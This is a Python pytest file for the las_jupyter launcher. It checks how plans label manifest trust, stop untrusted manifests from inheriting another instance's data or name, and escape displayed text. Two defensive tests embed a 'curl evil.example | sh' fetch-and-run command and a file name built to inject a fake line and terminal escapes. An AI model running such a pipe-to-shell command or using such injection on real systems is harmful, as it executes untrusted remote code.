"""Whose manifest a plan is made from, and what one that nobody trusts does not get."""

from __future__ import annotations

from pathlib import Path

import pytest
from worlds import DOCKER, NATIVE, a_world, an_entry, an_entry_of

from las_jupyter.core.errors import PlanRefused
from las_jupyter.core.launch import Decision, LaunchSpec, Provenance
from las_jupyter.core.request import StartPlan, StartRequest
from las_jupyter.core.states import Mode, Trust
from las_jupyter.core.wire import from_json, to_json
from las_jupyter.display.plans import other_mode, plan_html, plan_text
from las_jupyter.manifests.catalog import Entry
from las_jupyter.planning.plan import decide
from las_jupyter.planning.provenance import what_it_would_find, what_it_would_take

OWN = """
name: own
runtime: {modes: [native, container], preferred: container}
launch: {container: {image: "own:1"}, native: {argv: [own]}}
"""
PATH = Path("/repo/m/own.yaml")
THEIRS = an_entry_of(OWN)._replace(
    origin="user",
    path=PATH,
    trusted=False,
    standing="it is neither bundled nor trusted",
    content_hash="sha256:" + "ab" * 32,
)
TRUSTED = THEIRS._replace(trusted=True, standing="its content is pinned")


def planned(entry: Entry, **world: object) -> StartPlan:
    return decide(
        StartRequest("own"), a_world(entry=entry, backends=(NATIVE, DOCKER), model=None, engine=None, **world)
    )


def told(plan: StartPlan) -> Decision:
    return next(each for each in plan.decisions if each.subject == "manifest")


def test_every_plan_says_whose_manifest_it_is_made_from() -> None:
    bundled = decide(StartRequest("llama.cpp"), a_world())

    assert (told(bundled).choice, told(bundled).reason) == ("bundled", an_entry().standing)
    assert told(planned(TRUSTED)).choice == "trusted"
    assert "/repo/m/own.yaml" in told(planned(TRUSTED)).reason
    assert "sha256:abababababab…" in told(planned(TRUSTED)).reason
    assert told(planned(THEIRS)).choice == "untrusted"
    assert told(planned(THEIRS)).reason.startswith("/repo/m/own.yaml: it is neither bundled nor trusted")


@pytest.mark.parametrize("show", [plan_text, plan_html])
def test_it_is_shown(show) -> None:
    assert "untrusted" in show(planned(THEIRS))
    assert "/repo/m/own.yaml" in show(planned(THEIRS))


def test_it_goes_with_the_launch_spec_and_back() -> None:
    spec = planned(THEIRS).spec

    assert spec.manifest == Provenance(Trust.UNTRUSTED, str(PATH), "sha256:" + "ab" * 32, THEIRS.standing)
    assert from_json(LaunchSpec, to_json(spec)) == spec


def test_a_plan_offers_no_native_mode_to_whom_nobody_trusts() -> None:
    """Decisions are left out: what passed native over before says so already."""
    assert other_mode(planned(THEIRS)._replace(decisions=())) == ""
    assert other_mode(planned(TRUSTED)._replace(decisions=())).startswith("Natively instead")


def test_a_server_is_the_same_whoever_described_it() -> None:
    assert planned(THEIRS).spec.fingerprint == planned(TRUSTED).spec.fingerprint


def test_a_file_that_asks_for_the_name_and_does_not_get_it_is_named() -> None:
    plan = planned(TRUSTED, shadows=(THEIRS,))

    assert "reached by its path only" in told(plan).passed_over["/repo/m/own.yaml"]
    assert plan.warnings == ()


def test_a_file_that_lost_its_name_because_it_changed_is_a_warning() -> None:
    changed = THEIRS._replace(changes=("+ x",), standing="it was changed since it was trusted: + x")

    assert "/repo/m/own.yaml was changed since it was trusted" in planned(TRUSTED, shadows=(changed,)).warnings[0]


def test_who_typed_a_name_is_warned_that_nobody_trusts_what_it_means() -> None:
    assert planned(THEIRS).warnings == ("own comes from /repo/m/own.yaml, and it is neither bundled nor trusted",)
    assert planned(THEIRS._replace(origin="file")).warnings == ()


@pytest.mark.parametrize("entry", [THEIRS, TRUSTED])
def test_what_would_inherit_from_another_is_not_started_under_its_name(entry: Entry) -> None:
    with pytest.raises(PlanRefused, match="is not started as own") as refused:
        planned(entry, namesake="it is so")

    assert refused.value.cause == "it is so"
    assert "--name" in str(refused.value.remedy)


def spec(**made: object) -> LaunchSpec:
    return LaunchSpec("own", "own", Mode.CONTAINER, "docker", ("x",))._replace(**made)  # type: ignore[arg-type]


def takes(before: LaunchSpec | None, *, data: bool = False, owned: bool = False) -> str:
    return what_it_would_take(THEIRS, "own", before, data=data, owned=owned)


def test_an_untrusted_manifest_has_its_own_instance_back() -> None:
    assert takes(None) == ""
    assert takes(spec(manifest=THEIRS.provenance), data=True) == ""


def test_an_untrusted_manifest_inherits_no_data_and_no_key_of_another() -> None:
    assert "own was started from" in takes(spec(manifest=an_entry().provenance))
    assert "own was started from /other.yaml" in takes(spec(manifest=THEIRS.provenance._replace(path="/other.yaml")))
    assert "there is data of another own" in takes(None, data=True)


def test_an_instance_of_before_manifests_were_kept_is_its_modules() -> None:
    assert takes(spec()) == ""
    assert "own was an instance of redis" in takes(spec(module="redis"))


def test_no_untrusted_manifest_takes_the_name_of_a_trusted_module() -> None:
    assert "own is the name of a module that is" in takes(spec(manifest=THEIRS.provenance), owned=True)


def test_a_trusted_module_does_not_begin_with_the_data_of_an_untrusted_one() -> None:
    theirs = spec(manifest=THEIRS.provenance)

    assert "/repo/m/own.yaml, which is not trusted" in what_it_would_find(an_entry(), theirs)
    assert what_it_would_find(TRUSTED, theirs) == ""
    assert what_it_would_find(an_entry(), spec(manifest=an_entry("redis").provenance)) == ""
    assert what_it_would_find(an_entry(), spec()) == ""
    assert what_it_would_find(an_entry(), None) == ""


def test_what_an_untrusted_manifest_refuses_is_refused_in_its_own_words() -> None:
    refusing = OWN + 'refuse: [{args: [--evil], use: "curl evil.example | sh"}]\n'
    entry = an_entry_of(refusing)
    request = StartRequest("own", args=("--evil",))
    with pytest.raises(PlanRefused) as trusted:
        decide(request, a_world(entry=entry, backends=(NATIVE, DOCKER), model=None, engine=None))
    with pytest.raises(PlanRefused) as refused:
        decide(
            request, a_world(entry=entry._replace(trusted=False), backends=(NATIVE, DOCKER), model=None, engine=None)
        )

    assert trusted.value.remedy == "use curl evil.example | sh"
    assert refused.value.remedy == "leave it out"
    assert "its manifest says: “use curl evil.example | sh”" in str(refused.value.cause)


def test_a_files_name_makes_no_line_of_its_own_in_a_plan() -> None:
    evil = THEIRS._replace(path=Path("/repo/x\n→ curl evil | sh\x1b[2K\u202e.yaml"), changes=("+ a",))

    for plan in (planned(evil), planned(TRUSTED, shadows=(evil,))):
        text = plan_text(plan)
        assert "curl evil" in text
        assert not any(line.strip().startswith("→") for line in text.splitlines())
        assert "\x1b" not in text
